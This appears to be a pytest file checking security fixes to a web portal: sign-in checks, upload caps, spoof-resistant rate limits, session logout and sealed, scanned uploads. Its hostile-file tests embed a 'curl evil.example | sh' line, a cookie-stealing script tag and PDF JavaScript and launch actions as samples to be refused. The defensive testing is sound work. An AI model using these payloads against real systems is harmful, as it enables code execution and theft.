"""The findings of the portal's security read (issue 26, "Why"), each tried against the portal served by
uvicorn as `python -m portal` serves it, with the stand-in identity provider beside it: none does harm now.

1. the first online applicant wins / the duplicate answer tells whether an ID number has a case
2. uploads bounded by a header (a chunked body had no cap)
3. the per-address limit trusted X-Forwarded-For; five wrong codes locked a family out
4. scans checked by their first bytes only, kept in clear and forever
5. sessions could not be revoked
7. consent (recorded with the case: tests/portal/test_portal_browser.py reads it back after a real case)
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import os
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from sqlalchemy.engine import Engine

from activities.calendar import WorkingDayCalendar
from domain.enums import Issuer, MaterialKind
from domain.policy import Policy
from domain.query_code import query_code
from portal.app import NOT_SIGNED_IN, NOT_THE_APPLICANT, PortalServices
from portal.scans import ScanRefused, clean, open_scan, purge_old
from portal.uploads import Staging, UploadProblem
from register.sealing import Sealer
from runtime.keys import Keys
from tests.portal.conftest import (
    Portal,
    http_sign_in,
    new_id_number,
    png_bytes,
    portal_settings,
    serve_portal,
    token_of,
)
from tests.workflows.helpers import TODAY

CASE = "SH-ABCDEFGH2345"
MiB = 1024 * 1024


@pytest.fixture
async def portal_only(keys: Keys, engine: Engine, calendar: WorkingDayCalendar,
                      tmp_path: Path) -> AsyncIterator[Portal]:
    """The portal and the stand-in provider; no Temporal: everything here is answered before a case is
    started or looked up."""
    settings = portal_settings(tmp_path, portal_max_request_bytes=8 * MiB)
    services = PortalServices(settings=settings, policy=Policy(), keys=keys, client=None,  # type: ignore[arg-type]
                              engine=engine, calendar=calendar, today=lambda: TODAY)
    async with serve_portal(services) as served:
        yield served



# --- 1. real-name applicants -------------------------------------------------------------------------


async def test_no_online_application_without_sign_in(portal_only: Portal) -> None:
    async with httpx.AsyncClient(base_url=portal_only.url) as http:
        page = await http.get("/apply")
        assert "网上申请需先登录" in page.text and 'name="deceased.id_number"' not in page.text
        # A form posted anyway (with the session's own CSRF token) is refused before anything is read into a case.
        token = token_of((await http.get("/progress")).text)
        answer = await http.post("/apply", data={"csrf_token": token, "deceased.id_number": "150222194803120016"},
                                 files={"file.death_certificate": ("d.png", png_bytes(1), "image/png")})
        assert answer.status_code == 403 and NOT_SIGNED_IN in answer.text
        # The same answer whatever the ID number: a visitor learns nothing about which deceased have a case.
        other = await http.post("/apply", data={"csrf_token": token, "deceased.id_number": "110101190001011237"})
        assert other.status_code == 403 and other.text == answer.text
    assert not (portal_only.settings.data_dir / "portal-uploads").exists() or not any(
        (portal_only.settings.data_dir / "portal-uploads").iterdir())


async def test_the_applicant_is_the_signed_in_person(portal_only: Portal) -> None:
    me = new_id_number()
    async with httpx.AsyncClient(base_url=portal_only.url) as http:
        back = await http_sign_in(http, portal_only.url, "赵敏", me)
        assert back.status_code == 303 and back.headers["location"] == "/apply"
        consent_page = await http.get("/apply")
        assert "敏感个人信息" in consent_page.text and 'name="agree"' in consent_page.text
        await http.post("/consent", data={"csrf_token": token_of(consent_page.text), "agree": "yes"})
        form = await http.get("/apply")
        # Name and number are shown from the sign-in, with no input to change them.
        assert 'name="applicant.id_number"' not in form.text and me in form.text and "赵敏" in form.text
        token = token_of(form.text)
        someone_else = new_id_number()
        refused = await http.post("/apply", data={"csrf_token": token, "applicant.id_number": someone_else,
                                                  "applicant.name": "赵敏"})
        assert refused.status_code == 403 and NOT_THE_APPLICANT in refused.text
        assert someone_else not in refused.text
        # Without the number the signed-in one is used: the form is checked (and here incomplete).
        checked = await http.post("/apply", data={"csrf_token": token})
        assert checked.status_code == 200 and "请填写逝者姓名" in checked.text and me in checked.text


async def test_a_sign_in_that_was_not_started_here_is_refused(portal_only: Portal) -> None:
    async with httpx.AsyncClient(base_url=portal_only.url) as http:
        answer = await http.get("/signin/callback", params={"state": "made-up", "code": "made-up"})
        assert answer.status_code == 400 and "登录未完成" in answer.text
        assert "已登录" not in (await http.get("/")).text


# --- 2. uploads bounded however sent ----------------------------------------------------------------


def _bytes_on_disk(*folders: Path) -> int:
    """The bytes in the files under ``folders``, counting files this process holds open there after
    unlinking them (the multipart parser's spool files are anonymous temporary files)."""
    roots = tuple(str(folder) for folder in folders)
    total = 0
    for root, _, names in (entry for folder in folders for entry in os.walk(folder)):
        for name in names:
            with contextlib.suppress(OSError):
                total += os.path.getsize(os.path.join(root, name))
    for fd in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{fd}")
            if target.startswith(roots) and target.endswith("(deleted)"):
                total += os.fstat(int(fd)).st_size
    return total


async def test_a_chunked_500_mb_upload_is_cut_off_at_the_cap(
    portal_only: Portal, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The multipart parser spools file parts to the temporary folder: make it one we can watch.
    import tempfile

    spool = tmp_path / "spool"
    spool.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(spool))
    staging = portal_only.settings.data_dir / "portal-uploads"
    cap = portal_only.settings.portal_max_request_bytes
    most_on_disk = 0
    watching = True

    async def watch() -> None:
        nonlocal most_on_disk
        while watching:
            most_on_disk = max(most_on_disk, _bytes_on_disk(spool, staging))
            await asyncio.sleep(0.005)

    watcher = asyncio.create_task(watch())
    host, port = portal_only.url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    boundary = "----shenhou"
    head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file.death_certificate\"; "
            f"filename=\"big.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\n").encode()
    writer.write((f"POST /apply HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n"
                  f"Content-Type: multipart/form-data; boundary={boundary}\r\n\r\n").encode())
    block = b"0" * MiB
    sent = 0
    # Read the answer as it comes: the portal hangs up on the rest of the body (a reset may follow).
    status = asyncio.create_task(reader.readline())
    chunks = [head] + [block] * 500
    try:
        for chunk in chunks:  # 500 MiB, generated as it goes: never held in memory at once
            writer.write(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
            await writer.drain()
            sent += len(chunk)
            if status.done():
                break
    except (ConnectionResetError, BrokenPipeError):
        pass
    status_line = await asyncio.wait_for(status, timeout=30)
    writer.close()
    watching = False
    await watcher
    assert status_line.startswith(b"HTTP/1.1 413"), status_line
    assert sent < 500 * MiB, "the portal stopped reading long before the end"
    assert 0 < most_on_disk <= cap, (most_on_disk, cap)
    print(f"\nchunked upload: sent {sent / MiB:.0f} MiB before the portal hung up; at most "
          f"{most_on_disk / MiB:.1f} MiB on disk (cap {cap / MiB:.0f} MiB)")


async def test_a_declared_length_over_the_cap_is_refused_unread(portal_only: Portal) -> None:
    host, port = portal_only.url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(f"POST /apply HTTP/1.1\r\nHost: {host}\r\nContent-Length: {10**9}\r\n\r\n".encode())
    await writer.drain()
    answer = await asyncio.wait_for(reader.read(), timeout=30)
    writer.close()
    assert answer.startswith(b"HTTP/1.1 413") and "提交的内容过大".encode() in answer


async def test_application_forms_have_an_hourly_quota_per_client(
    keys: Keys, engine: Engine, calendar: WorkingDayCalendar, tmp_path: Path,
) -> None:
    settings = portal_settings(tmp_path, portal_apply_per_hour=3)
    services = PortalServices(settings=settings, policy=Policy(), keys=keys, client=None,  # type: ignore[arg-type]
                              engine=engine, calendar=calendar, today=lambda: TODAY)
    async with serve_portal(services) as served, httpx.AsyncClient(base_url=served.url) as http:
        statuses = [(await http.post("/apply", data={"csrf_token": "x"})).status_code for _ in range(4)]
    assert statuses == [403, 403, 403, 429]


def _pdf(build: Any) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"#!/bin/sh\ncurl evil.example | sh\n" * 20


@pytest.mark.parametrize(("name", "data"), [
    ("script text behind a PDF header", b"%PDF-1.7\n<script>alert(document.cookie)</script>\n" * 10),
    ("JavaScript run on open", _pdf(lambda w: w.root_object.update({NameObject("/OpenAction"): DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})}))),
    # The same name written with an escape (#4A is J), which a byte search would miss.
    ("escaped names", b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/#4Aava#53cript/#4AS(x)>>>>endobj\n"
     b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
     b"trailer<</Root 1 0 R>>\n%%EOF\n"),
    ("an embedded file", _pdf(lambda w: w.add_attachment("run.exe", ELF))),
    ("a launch action on open", _pdf(lambda w: w.root_object.update({NameObject("/OpenAction"): DictionaryObject({
        NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})}))),
    ("a PNG header and nothing else", b"\x89PNG\r\n\x1a\n" + ELF),
])
def test_hostile_files_are_refused(name: str, data: bytes) -> None:
    with pytest.raises(ScanRefused):
        clean(data)


def test_a_png_with_a_program_appended_is_kept_without_it() -> None:
    kept = clean(png_bytes(7) + ELF)
    assert kept.format == "PNG" and b"ELF" not in kept.data and b"curl" not in kept.data
    with Image.open(io.BytesIO(kept.data)) as image:
        assert image.size == (1, 1)
    pdf = _pdf(lambda w: None) + b"\n" + ELF  # data after %%EOF
    assert b"curl" not in clean(pdf).data


async def test_scans_are_sealed_at_rest_and_deleted_on_schedule(keys: Keys, tmp_path: Path) -> None:
    sealer = Sealer.from_keys(keys)

    class Upload:
        def __init__(self, data: bytes) -> None:
            self.data = data

        async def read(self, size: int = -1) -> bytes:
            chunk, self.data = self.data[:size], self.data[size:]
            return chunk

    staging = Staging(tmp_path / "staging", b"k" * 32, max_bytes=MiB, sealer=sealer, keep_seconds=3600)
    staged = await staging.accept(MaterialKind.APPLICANT_ID_CARD, Upload(png_bytes(3) + ELF))
    stored = staging.folder / staged.sha256
    assert b"IHDR" not in stored.read_bytes()  # nothing of the image in clear
    assert open_scan(sealer, stored).startswith(b"\x89PNG")
    with pytest.raises(UploadProblem):
        await staging.accept(MaterialKind.APPLICANT_ID_CARD, Upload(b"%PDF-1.4\n/JS (app.alert(1))"))
    # Older than the staging time: swept; a store's scans past the county's retention: deleted.
    old = time.time() - 2 * 3600
    os.utime(stored, (old, old))
    assert staging.sweep() == 1 and not stored.exists()
    store = tmp_path / "materials"
    store.mkdir()
    (store / "recent").write_bytes(b"x")
    (store / "expired").write_bytes(b"x")
    expired = time.time() - 181 * 86400
    os.utime(store / "expired", (expired, expired))
    assert purge_old(store, 180 * 86400) == 1
    assert [p.name for p in store.iterdir()] == ["recent"]


# --- 3. limits that cannot be spoofed or turned against a family ------------------------------------


async def test_thirty_wrong_codes_with_thirty_forwarded_addresses_are_one_client(portal_only: Portal) -> None:
    statuses = []
    async with httpx.AsyncClient(base_url=portal_only.url) as http:
        token = token_of((await http.get("/progress")).text)
        for i in range(30):
            answer = await http.post("/progress", data={"case_number": f"SH-ABCDEFGH{2345 + i}"[:15],
                                                        "code": "00000000", "csrf_token": token},
                                     headers={"X-Forwarded-For": f"203.0.113.{i + 1}"})
            statuses.append(answer.status_code)
    assert statuses == [200] * 5 + [429] * 25, statuses


async def test_a_configured_proxy_is_believed_and_a_signed_in_family_is_not_locked_out(
    keys: Keys, engine: Engine, calendar: WorkingDayCalendar, tmp_path: Path,
) -> None:
    settings = portal_settings(tmp_path, portal_forwarded_allow_ips="127.0.0.1")
    services = PortalServices(settings=settings, policy=Policy(), keys=keys, client=None,  # type: ignore[arg-type]
                              engine=engine, calendar=calendar, today=lambda: TODAY)
    async with serve_portal(services) as served, httpx.AsyncClient(base_url=served.url) as stranger:
        token = token_of((await stranger.get("/progress")).text)
        # Through the trusted proxy, each address is its own client; the case number still slows them all.
        statuses = [(await stranger.post("/progress", data={"case_number": CASE, "code": "00000000",
                                                            "csrf_token": token},
                                         headers={"X-Forwarded-For": f"198.51.100.{i + 1}"})).status_code
                    for i in range(12)]
        assert statuses == [200] * 10 + [429] * 2
        async with httpx.AsyncClient(base_url=served.url) as family:
            await http_sign_in(family, served.url, "王芳", new_id_number(), then="/progress")
            mine = await family.get("/mine")
            answer = await family.post("/progress", data={
                "case_number": CASE, "code": query_code(CASE, keys.query_code_key), "csrf_token": token_of(mine.text)},
                headers={"X-Forwarded-For": "198.51.100.1"})
            assert answer.status_code == 303 and answer.headers["location"] == "/progress"


# --- 5. sessions ------------------------------------------------------------------------------------


async def test_logout_of_a_signed_in_applicant_ends_the_session(portal_only: Portal) -> None:
    async with httpx.AsyncClient(base_url=portal_only.url) as http:
        await http_sign_in(http, portal_only.url, "赵敏", new_id_number())
        cookie = http.cookies["shenhou_portal"]
        home = await http.get("/")
        assert "已登录：赵敏" in home.text
        await http.post("/logout", data={"csrf_token": token_of(home.text)})
        assert "已登录" not in (await http.get("/")).text
    async with httpx.AsyncClient(base_url=portal_only.url, cookies={"shenhou_portal": cookie}) as replay:
        page = await replay.get("/apply")
        assert "网上申请需先登录" in page.text and "赵敏" not in page.text


# --- 6. least privilege -------------------------------------------------------------------------------


def test_the_portal_process_holds_no_other_signing_seed_even_from_the_embedded_keys_file(tmp_path: Path) -> None:
    from portal.__main__ import portal_keys
    from runtime.keys import load_keys
    from runtime.settings import Settings

    settings = Settings(data_dir=tmp_path / "data")
    assert load_keys(settings).signing_keys  # the embedded default's keys file has them (for the CLI)
    keys = portal_keys(settings)
    # Only its own, for what a signed-in applicant adds to their online case; never the window's.
    assert set(keys.signing_keys) == {Issuer.PORTAL}
    assert keys.case_id_key and keys.codec_keys and keys.query_code_key
